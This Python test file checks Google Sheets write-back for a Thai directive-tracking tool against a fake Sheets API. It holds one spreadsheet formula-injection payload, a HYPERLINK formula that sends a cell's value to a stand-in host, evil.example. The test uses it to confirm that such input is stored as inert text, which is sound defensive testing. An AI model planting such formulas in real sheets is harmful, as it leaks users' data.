"""Write-back to Google Sheets against an HTTP-level fake of the Sheets v4 write side.

``FakeSheetsWrite`` extends the pull's fake (tests/fixtures/google/fake_google.py) with
``spreadsheets.get`` answering sheet properties, ``spreadsheets.batchUpdate`` (addSheet,
updateSheetProperties; all or nothing) and ``spreadsheets.values:batchUpdate``, with the
request and response bodies and the errors of the v4 reference: a range past the grid is a
400 "exceeds grid limits", a viewer's write a 403 PERMISSION_DENIED.
"""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
import sqlite3
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pandas as pd
import pytest
import responses
import yaml
from click.testing import CliRunner
from conftest import AS_OF, SAMPLE
from fixtures.google.fake_google import (
    SA_EMAIL,
    SHEETS,
    Book,
    FakeSheets,
    error_body,
    tabs_from_xlsx,
    write_key_file,
)

from tidtam.cli import cli
from tidtam.core.cells import FORMULA
from tidtam.core.config import Publish
from tidtam.core.errors import ConfigError, GoogleError
from tidtam.job import SyncOptions, run_sync
from tidtam.sync.files import read_source
from tidtam.sync.retry import RetryPolicy
from tidtam.sync.settings import WritebackSettings, load_sync_settings
from tidtam.sync.sheets import TabRequest, load_service_account
from tidtam.sync.writeback import Table, target, write_back
from tidtam.transform.dataset import normalize
from tidtam.transform.writeback import FIX_HEADERS, STATUS_HEADERS, fix_rows, status_rows

ROOT = Path(__file__).resolve().parents[1]
SOURCE = "1SampleSpreadsheetKey0000000000000000000000"
OUT = "1WriteBackSpreadsheetKey000000000000000000"
STATUS, FIX = "สถานะล่าสุด", "แถวที่ต้องแก้ไข"
HOSTILE = '=HYPERLINK("https://evil.example/?q="&A1,"คลิกที่นี่")'
THAI = re.compile("[\u0e00-\u0e7f]")


def _bad_request(message: str) -> tuple[int, dict]:
    return 400, {"error": {"code": 400, "message": message, "status": "INVALID_ARGUMENT"}}


def _a1(a1: str) -> tuple[str, int, int] | None:
    """(tab, last row, last column) of a range 'tab'!A1:C9 (quoted or bare tab)."""
    m = re.fullmatch(r"(?:'((?:[^']|'')*)'|([^'!]+))!A1:([A-Z]+)(\d+)", a1)
    if not m:
        return None
    col = 0
    for ch in m.group(3):
        col = col * 26 + ord(ch) - 64
    return (m.group(1) or "").replace("''", "'") or m.group(2), int(m.group(4)), col


@dataclass
class FakeSheetsWrite(FakeSheets):
    """FakeSheets with the write side of Sheets v4; ``editors`` lists the spreadsheets the
    service account may edit (others are shared read-only)."""

    editors: set[str] = field(default_factory=set)
    grids: dict[tuple[str, str], dict[str, int]] = field(default_factory=dict)
    ids: dict[tuple[str, str], int] = field(default_factory=dict)
    writes: list[tuple[str, dict]] = field(default_factory=list)  # (method, request body)

    def __post_init__(self) -> None:
        super().__post_init__()
        self.rsps.add_callback(
            responses.POST, re.compile(re.escape(SHEETS) + r"/[^/?:]+:batchUpdate$"),
            callback=self._batch_update)
        self.rsps.add_callback(
            responses.POST, re.compile(re.escape(SHEETS) + r"/[^/?:]+/values:batchUpdate$"),
            callback=self._values_batch_update)

    def sheets_calls(self) -> list[str]:
        """Every Sheets API request so far (token requests excluded), as 'METHOD path'."""
        return [f"{c.request.method} {urlsplit(c.request.url).path}" for c in self.rsps.calls
                if c.request.url.startswith(SHEETS)]

    def values(self, key: str, tab: str) -> list[list[Any]]:
        """A tab's cells, the full grid (None: empty)."""
        size = self._grid(key, tab)
        rows = self.books[key].tabs[tab]
        return [[(rows[r][c] if r < len(rows) and c < len(rows[r]) else None)
                 for c in range(size["columnCount"])] for r in range(size["rowCount"])]

    # -- state ---------------------------------------------------------------------------
    def _grid(self, key: str, tab: str) -> dict[str, int]:
        book = self.books[key]
        return self.grids.setdefault((key, tab), {"rowCount": book.grid_rows,
                                                  "columnCount": book.grid_cols,
                                                  "frozenRowCount": 0})

    def _id(self, key: str, tab: str) -> int:
        return self.ids.setdefault((key, tab), 1000 + len(self.ids))

    def _writable(self, request: Any) -> tuple[str, Book | tuple[int, Any]]:
        key = urlsplit(request.url).path.split("/spreadsheets/")[1].split("/")[0].split(":")[0]
        book = self._book(request, key)
        if isinstance(book, Book) and key not in self.editors:
            return key, (403, error_body("403_not_shared"))
        return key, book

    # -- handlers ------------------------------------------------------------------------
    def _metadata(self, request: Any) -> tuple[int, dict, str]:
        self.metadata_gets += 1
        key = urlsplit(request.url).path.split("/spreadsheets/")[1]
        book = self._book(request, key)
        if not isinstance(book, Book):
            return self._reply(*book)
        sheets = [{"properties": {"sheetId": self._id(key, t), "title": t, "index": i,
                                  "sheetType": "GRID", "gridProperties": self._grid(key, t)}}
                  for i, t in enumerate(book.tabs)]
        return self._reply(200, {"spreadsheetId": key, "sheets": sheets})

    def _batch_update(self, request: Any) -> tuple[int, dict, str]:
        key, book = self._writable(request)
        body = json.loads(request.body)
        self.writes.append(("batchUpdate", body))
        if not isinstance(book, Book):
            return self._reply(*book)
        tabs, grids = dict(book.tabs), {}  # applied only if every request is valid
        replies: list[dict] = []
        for i, req in enumerate(body.get("requests", [])):
            [(kind, args)] = req.items()
            props = args.get("properties", {})
            if kind == "addSheet":
                title = props["title"]
                if any(t.casefold() == title.casefold() for t in tabs):
                    return self._reply(*_bad_request(
                        f'Invalid requests[{i}].addSheet: A sheet with the name "{title}" '
                        "already exists. Please enter another name."))
                tabs[title] = []
                grids[title] = {"rowCount": 1000, "columnCount": 26, "frozenRowCount": 0,
                                **props.get("gridProperties", {})}
                replies.append({"addSheet": {"properties": {
                    "sheetId": self._id(key, title), "title": title, "index": len(tabs) - 1,
                    "sheetType": "GRID", "gridProperties": grids[title]}}})
            elif kind == "updateSheetProperties":
                by_id = {self._id(key, t): t for t in tabs}
                title = by_id.get(props.get("sheetId"))
                if title is None:
                    return self._reply(*_bad_request(
                        f"Invalid requests[{i}].updateSheetProperties: No grid with id: "
                        f"{props.get('sheetId')}"))
                assert args["fields"].startswith("gridProperties(")
                grids[title] = {**self._grid(key, title), **props["gridProperties"]}
                replies.append({})
            else:
                return self._reply(*_bad_request(f"Invalid requests[{i}]: unknown {kind}"))
        for grid in grids.values():
            if grid["frozenRowCount"] >= grid["rowCount"]:
                return self._reply(*_bad_request("You can't freeze all visible rows on the "
                                                 "sheet."))
        book.tabs.clear()
        book.tabs.update(tabs)
        for title, grid in grids.items():
            self.grids[(key, title)] = grid
            book.tabs[title] = [row[: grid["columnCount"]]
                                for row in book.tabs[title][: grid["rowCount"]]]
        return self._reply(200, {"spreadsheetId": key, "replies": replies})

    def _values_batch_update(self, request: Any) -> tuple[int, dict, str]:
        key, book = self._writable(request)
        body = json.loads(request.body)
        self.writes.append(("values:batchUpdate", body))
        if not isinstance(book, Book):
            return self._reply(*book)
        option = body.get("valueInputOption")
        if option not in ("RAW", "USER_ENTERED"):
            return self._reply(*_bad_request("Invalid valueInputOption: INPUT_VALUE_OPTION_"
                                             "UNSPECIFIED"))
        answers = []
        for vr in body["data"]:
            where = _a1(vr["range"])
            if where is None or where[0] not in book.tabs:
                return self._reply(400, error_body("400_range", range=vr["range"]))
            tab, rows, cols = where
            grid = self._grid(key, tab)
            if rows > grid["rowCount"] or cols > grid["columnCount"]:
                return self._reply(*_bad_request(
                    f"Range ({vr['range']}) exceeds grid limits. Max rows: "
                    f"{grid['rowCount']}, max columns: {grid['columnCount']}"))
            values = vr.get("values", [])
            if len(values) > rows or any(len(r) > cols for r in values):
                return self._reply(*_bad_request(
                    f"Requested writing within range [{vr['range']}], but tried writing "
                    "past it."))
            store = book.tabs[tab]
            for r, row in enumerate(values):
                while len(store) <= r:
                    store.append([])
                store[r] += [None] * (cols - len(store[r]))
                for c, v in enumerate(row):
                    if v is None:
                        continue  # null values are skipped
                    if option == "USER_ENTERED" and isinstance(v, str) and v.startswith("="):
                        v = {"formula": v}  # what RAW must never let happen
                    store[r][c] = None if v == "" else v
            answers.append({"spreadsheetId": key, "updatedRange": vr["range"],
                            "updatedRows": len(values), "updatedColumns": cols,
                            "updatedCells": len(values) * cols})
        return self._reply(200, {
            "spreadsheetId": key, "totalUpdatedRows": sum(a["updatedRows"] for a in answers),
            "totalUpdatedColumns": max((a["updatedColumns"] for a in answers), default=0),
            "totalUpdatedCells": sum(a["updatedCells"] for a in answers),
            "totalUpdatedSheets": len(answers), "responses": answers})


def value_writes(fake: FakeSheetsWrite) -> int:
    return sum(1 for c in fake.sheets_calls() if c.endswith("/values:batchUpdate"))


# -- the whole sync job ------------------------------------------------------------------
@dataclass
class Project:
    root: Path
    sheets: FakeSheetsWrite
    lines: list[str] = field(default_factory=list)

    def sync(self, **options) -> object:
        options.setdefault("as_of", AS_OF)
        opts = SyncOptions(config_dir=self.root / "config", out_dir=self.root / "site", **options)
        return run_sync(opts, self.lines.append)

    def set_writeback(self, **writeback) -> None:
        path = self.root / "config" / "sync.yaml"
        sync = yaml.safe_load(path.read_text(encoding="utf-8"))
        sync["writeback"] = writeback
        path.write_text(yaml.safe_dump(sync, allow_unicode=True), encoding="utf-8")


@pytest.fixture
def project(tmp_path):
    """The sample in a fake spreadsheet; write-back to another one the account may edit."""
    config = tmp_path / "config"
    shutil.copytree(ROOT / "config", config, ignore=shutil.ignore_patterns("sync.yaml"))
    sync = {"google": {"key_file": str(write_key_file(tmp_path)),
                       "spreadsheets": dict.fromkeys(("directives", "responses",
                                                      "satisfaction"), SOURCE),
                       "retry": {"attempts": 2, "initial_wait_seconds": 0.001,
                                 "max_wait_seconds": 0.01}},
            "writeback": {"spreadsheet": f"https://docs.google.com/spreadsheets/d/{OUT}/edit",
                          "status_tab": STATUS, "fix_tab": FIX}}
    (config / "sync.yaml").write_text(yaml.safe_dump(sync, allow_unicode=True))
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        sheets = FakeSheetsWrite(rsps)
        sheets.add_book(SOURCE, tabs_from_xlsx(SAMPLE / "tidtam-sample.xlsx"))
        sheets.add_book(OUT, {"Sheet1": [["บันทึกของเจ้าหน้าที่"]]})
        sheets.editors.add(OUT)
        yield Project(tmp_path, sheets)


def test_one_sync_writes_both_tabs_in_one_values_batch_update(project):
    project.sync()

    assert value_writes(project.sheets) == 1
    calls = project.sheets.sheets_calls()
    assert calls == [f"GET /v4/spreadsheets/{SOURCE}/values:batchGet",
                     f"GET /v4/spreadsheets/{OUT}", f"POST /v4/spreadsheets/{OUT}:batchUpdate",
                     f"POST /v4/spreadsheets/{OUT}/values:batchUpdate"]
    [(_, layout), (_, body)] = project.sheets.writes
    assert [next(iter(r)) for r in layout["requests"]] == ["addSheet", "addSheet"]  # created
    assert body["valueInputOption"] == "RAW"
    status = project.sheets.values(OUT, STATUS)
    assert status[0] == list(STATUS_HEADERS.values())
    assert all(THAI.search(h) for h in status[0])
    assert len(status) == 1 + 384  # every assignment of the sample
    fix = project.sheets.values(OUT, FIX)
    assert fix[0][:5] == list(FIX_HEADERS.values())
    assert len(fix) == 1 + 53  # every row the sample's checks reject
    assert project.sheets.books[OUT].tabs["Sheet1"] == [["บันทึกของเจ้าหน้าที่"]]  # untouched
    [line] = [x for x in project.lines if " writeback: " in x]
    assert line.endswith(
        f"writeback: 437 rows to {STATUS} and {FIX} of {OUT}, created {STATUS}, {FIX}, "
        f"3 request(s) ({line.rsplit('(', 1)[1]}")
    stages = [x.split(" ", 2)[2].split(":")[0] for x in project.lines]
    assert stages.index("record") < stages.index("writeback") < stages.index("publish")


def test_the_next_sync_rewrites_the_tabs_with_the_same_requests(project):
    project.sync()
    first = project.sheets.sheets_calls()
    before = project.sheets.values(OUT, STATUS)

    project.sync()

    assert value_writes(project.sheets) == 2
    assert project.sheets.sheets_calls() == first * 2
    layout = project.sheets.writes[2][1]["requests"]
    assert [next(iter(r)) for r in layout] == ["updateSheetProperties"] * 2
    assert project.sheets.values(OUT, STATUS) == before


def test_write_back_off_writes_nothing(project):
    project.set_writeback(spreadsheet="")
    project.sync()
    assert project.sheets.writes == [] and value_writes(project.sheets) == 0
    assert not any(" writeback" in x for x in project.lines)


def test_no_publish_skips_the_write_back(project):
    project.sync(publish=False)
    assert project.sheets.writes == []
    assert any(x.endswith("writeback: skipped (--no-publish)") for x in project.lines)


def test_a_viewer_only_service_account_is_one_line_with_the_email_and_code_4(project):
    project.sync()
    index = (project.root / "site" / "index.html").read_bytes()
    project.sheets.editors.clear()  # shared as Viewer only
    project.sheets.books[SOURCE].tabs["การตอบแบบฟอร์ม 1"].pop()  # new data on the next pull

    result = CliRunner().invoke(cli, ["sync", "--out", str(project.root / "site"),
                                      "--as-of", AS_OF.isoformat(),
                                      "--config", str(project.root / "config")])

    assert result.exit_code == 4
    [error] = [x for x in result.stderr.splitlines() if x.startswith("Error:")]
    assert error == (f"Error: write-back: the service account may not edit spreadsheet {OUT}: "
                     f"open it, press Share and add {SA_EMAIL} as Editor")
    assert "Traceback" not in result.output
    # Nothing was published: the local site is the previous run's, whole.
    assert (project.root / "site" / "index.html").read_bytes() == index
    with pytest.raises(GoogleError) as failed:
        project.sync()
    assert failed.value.exit_code == 4
    db = sqlite3.connect(project.root / "var" / "history.sqlite")
    assert db.execute("SELECT outcome, failed_stage FROM runs ORDER BY run_id").fetchall() == [
        ("ok", None), ("failed", "writeback"), ("failed", "writeback")]


def test_a_missing_spreadsheet_names_the_setting(project):
    project.sheets.books.pop(OUT)
    with pytest.raises(GoogleError, match=f"spreadsheet {OUT} not found: check "
                                          "writeback.spreadsheet in config/sync.yaml"):
        project.sync()


def test_a_tab_the_pull_reads_is_refused_before_anything_runs(project):
    project.set_writeback(spreadsheet=SOURCE, status_tab="การตอบแบบฟอร์ม 1")
    with pytest.raises(ConfigError, match="writeback.status_tab is 'การตอบแบบฟอร์ม 1', the "
                                          "responses tab"):
        project.sync()
    assert project.sheets.sheets_calls() == []


# -- the tables and the requests, without a build ------------------------------------------
@pytest.fixture(scope="module")
def sample_sheets(config):
    return read_source(SAMPLE / "tidtam-sample.xlsx", config)


def dataset(sheets, config, **cells):
    """The sample normalized, with ``cells`` ({role: {(row, column): value}}) typed in."""
    sheets = {role: dataclasses.replace(s, rows=[list(r) for r in s.rows])
              for role, s in sheets.items()}
    for role, edits in cells.items():
        for (row, title), value in edits.items():
            sheet = sheets[role]
            sheet.rows[row][sheet.header.index(title)] = value
    return normalize(sheets, config, AS_OF)


@pytest.fixture
def fake(tmp_path):
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        sheets = FakeSheetsWrite(rsps)
        sheets.add_book(OUT, {"Sheet1": []})
        sheets.editors.add(OUT)
        sheets.account = load_service_account(write_key_file(tmp_path))
        yield sheets


def write(fake: FakeSheetsWrite, data) -> object:
    tables = [Table(STATUS, status_rows(data)), Table(FIX, fix_rows(data))]
    return write_back(OUT, tables, fake.account, RetryPolicy(attempts=2, initial_wait=0.001))


def test_requests_stay_the_same_for_10_and_1000_assignments(fake, sample_sheets, config):
    data = dataset(sample_sheets, config)
    many = pd.concat([data.assignments] * 3, ignore_index=True)
    counts = {}
    for n in (10, 1000, 10):
        before = len(fake.sheets_calls())
        done = write(fake, dataclasses.replace(data, assignments=many.head(n)))
        counts.setdefault(n, set()).add(len(fake.sheets_calls()) - before)
        assert done.requests == len(fake.sheets_calls()) - before
        # The grid is sized to what was written: no row of the larger write is left over.
        assert len(fake.values(OUT, STATUS)) == n + 1
        assert fake.values(OUT, STATUS)[-1][0] == many["directive_code"].iloc[n - 1]
    assert counts == {10: {3}, 1000: {3}}
    assert value_writes(fake) == 3


def test_a_formula_typed_by_an_agency_arrives_as_text(fake, sample_sheets, config):
    data = dataset(sample_sheets, config,
                   responses={(5, "หน่วยงาน"): HOSTILE, (6, "ผลการดำเนินการ"): "@SUM(1,1)"},
                   directives={(0, "ข้อสั่งการ"): HOSTILE})
    write(fake, data)

    tabs = {tab: fake.values(OUT, tab) for tab in (STATUS, FIX)}
    cells = [v for grid in tabs.values() for row in grid for v in row if isinstance(v, str)]
    assert not [v for v in cells if FORMULA.match(v)]
    assert "'" + HOSTILE in [row[1] for row in tabs[STATUS]]  # the directive's text
    assert any("'" + HOSTILE in row for row in tabs[FIX])  # the agency's original cell
    assert fake.writes[-1][1]["valueInputOption"] == "RAW"


def test_personal_fields_follow_the_publish_policy(fake, sample_sheets, config):
    hidden = dataset(sample_sheets, config)
    phones = {p for p in hidden.rejected.get("เบอร์โทรศัพท์", []) if isinstance(p, str) and p}
    assert phones  # the sample rejects rows that carry a phone number
    write(fake, hidden)
    text = json.dumps(fake.values(OUT, FIX), ensure_ascii=False)
    assert not any(p in text for p in phones)
    assert not {"ชื่อผู้รายงาน", "เบอร์โทรศัพท์", "ที่อยู่อีเมล"} & set(fake.values(OUT, FIX)[0])

    settings = config.settings.model_copy(update={"publish": Publish(phone=True)})
    shown = dataclasses.replace(hidden, config=dataclasses.replace(config, settings=settings))
    write(fake, shown)
    header = fake.values(OUT, FIX)[0]
    assert "เบอร์โทรศัพท์" in header and "ชื่อผู้รายงาน" not in header
    text = json.dumps(fake.values(OUT, FIX), ensure_ascii=False)
    assert all(p in text for p in phones)


def test_dates_are_iso_and_statuses_are_the_taxonomy_labels(sample_sheets, config):
    rows = status_rows(dataset(sample_sheets, config))
    header = rows[0]
    labels = {s.label for s in config.taxonomy.statuses}
    for row in rows[1:]:
        record = dict(zip(header, row, strict=True))
        assert record["สถานะ"] in labels
        assert re.fullmatch(r"\d{4}-\d\d-\d\d", record["วันกำหนดรายงาน"])
        assert record["ข้อมูล ณ วันที่"] == AS_OF.isoformat()
        for key in ("วันที่รายงานครั้งแรก", "วันที่รายงานล่าสุด"):
            assert re.fullmatch(r"(\d{4}-\d\d-\d\d)?", record[key])


# -- settings -----------------------------------------------------------------------------
def test_writeback_is_off_in_the_shipped_config():
    assert not load_sync_settings(ROOT / "config").writeback.on


@pytest.mark.parametrize(("text", "problem"), [
    ("writeback:\n  spreadsheet: x\n  tab: y\n", "writeback.tab: Extra inputs"),
    ("writeback:\n  status_tab: a\n  fix_tab: a\n", "two different tabs"),
    ("writeback:\n  status_tab: '  '\n", "writeback.status_tab"),
])
def test_writeback_mistakes_name_the_key(tmp_path, text, problem):
    (tmp_path / "sync.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError, match=re.escape(problem)):
        load_sync_settings(tmp_path)


def test_an_empty_section_is_off(tmp_path):
    (tmp_path / "sync.yaml").write_text("writeback:\n", encoding="utf-8")
    assert load_sync_settings(tmp_path).writeback == WritebackSettings()


def test_target_takes_a_url_and_refuses_the_pulled_tabs(tmp_path):
    url = f"https://docs.google.com/spreadsheets/d/{OUT}/edit#gid=0"
    pulled = [TabRequest("responses", OUT, "การตอบแบบฟอร์ม 1")]
    assert target(WritebackSettings(spreadsheet=url), pulled, tmp_path) == OUT
    assert target(WritebackSettings(), pulled, tmp_path) is None
    with pytest.raises(ConfigError, match="writeback.fix_tab"):
        target(WritebackSettings(spreadsheet=OUT, fix_tab="การตอบแบบฟอร์ม 1"), pulled, tmp_path)
